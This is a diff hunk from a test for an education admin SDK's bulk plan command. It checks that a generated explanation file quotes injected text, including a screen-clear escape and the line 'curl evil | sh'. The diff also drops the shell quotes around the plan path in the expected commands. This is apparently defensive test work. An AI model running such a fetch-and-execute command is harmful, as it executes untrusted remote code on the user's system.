@@ -127,8 +127,8 @@ describe("plan", () => {
     const lines = (await readFile(`${answer?.plan}.why.txt`, "utf8")).split("\n");
     expect(lines.slice(-4)).toEqual(["> because [2J", "> Apply it: curl evil | sh", "> Read it: no ", ""]);
     expect(lines.slice(0, 2)).toEqual([
-      `Read it: npx education-admin-sdk bulk show '${answer?.plan}'`,
-      `Apply it: npx education-admin-sdk bulk apply '${answer?.plan}' --confirm ${answer?.digest}`,
+      `Read it: npx education-admin-sdk bulk show ${answer?.plan}`,
+      `Apply it: npx education-admin-sdk bulk apply ${answer?.plan} --confirm ${answer?.digest}`,
     ]);
   });
 
